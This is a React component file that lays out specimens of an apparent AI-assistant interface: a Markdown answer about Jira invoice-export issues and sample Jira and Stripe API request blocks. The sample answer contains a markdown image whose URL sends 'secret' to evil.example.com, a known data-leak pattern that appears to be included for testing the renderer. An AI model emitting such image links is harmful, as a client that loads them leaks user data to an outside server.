import { CodeBlock } from '../ui/code-block'
import { Markdown } from '../ui/markdown'
import { RequestBlock } from '../ui/request-block'
import { Sheet, Specimen } from './specimen'

const ANSWER = `I found **12 open issues** in [SUP](https://acme.atlassian.net/browse/SUP) that mention *invoice export*.

| Issue | Age | Customer | ARR |
|---|---|---|--:|
| \`SUP-481\` | 3 days | Northwind | 48 200 |
| \`SUP-466\` | 9 days | Blue Heron | 12 900 |

### What stands out

1. Nine of them come from the **same** release.
2. Two customers are up for renewal:
   - Northwind, on 3 December
   - Blue Heron, on 14 December

> The export fails when a line has no tax code.

- [x] Read the issues
- [ ] Answer the customers

\`\`\`sql
-- Invoices without a tax code
select id, customer, total from invoices
where tax_code is null and created_at > '2026-11-01';
\`\`\`

A picture of the model: ![dashboard](https://evil.example.com/pixel.png?d=secret) and a [plain link](https://docs.stripe.com/api).

مرحبا، هذا نص من اليمين إلى اليسار.`

const REQUEST = {
  method: 'POST',
  url: 'https://acme.atlassian.net/rest/api/3/issue?notifyUsers=false',
  headers: [
    { name: 'Authorization', value: 'Bearer eyJhbGciOi' },
    { name: 'Content-Type', value: 'application/json' },
  ],
  body: JSON.stringify({
    fields: {
      project: { key: 'SUP' },
      summary: 'Invoice export fails without a tax code',
      priority: { id: '2' },
      labels: ['billing', 'export'],
      estimate: 3.5,
      internal: true,
      parent: null,
    },
  }),
}

export function Texts() {
  return (
    <Sheet>
      <Specimen name="Markdown">
        <Markdown text={ANSWER} className="w-full" />
      </Specimen>
      <div className="flex flex-col gap-7">
        <Specimen name="RequestBlock · changed fields marked">
          <div className="w-full">
            <RequestBlock request={REQUEST} changed={['fields.summary', 'fields.labels']} />
          </div>
        </Specimen>
        <Specimen name="RequestBlock · read, form">
          <div className="flex w-full flex-col gap-3">
            <RequestBlock
              request={{ method: 'GET', url: 'https://api.stripe.com/v1/customers?limit=100', headers: [], body: null }}
            />
            <RequestBlock
              request={{
                method: 'DELETE',
                url: 'https://api.stripe.com/v1/customers/cus_9',
                headers: [{ name: 'Stripe-Version', value: '2026-01-28' }],
                body: 'reason=duplicate&expand[]=sources',
              }}
            />
          </div>
        </Specimen>
        <Specimen name="Markdown · streaming">
          <Markdown streaming className="w-full" text={'The export **fails when a line'} />
        </Specimen>
        <Specimen name="CodeBlock">
          <CodeBlock
            className="w-full"
            caption="skill.md"
            text={'---\nname: Triage tickets\n---\nRead the ticket first.'}
          />
        </Specimen>
      </div>
    </Sheet>
  )
}
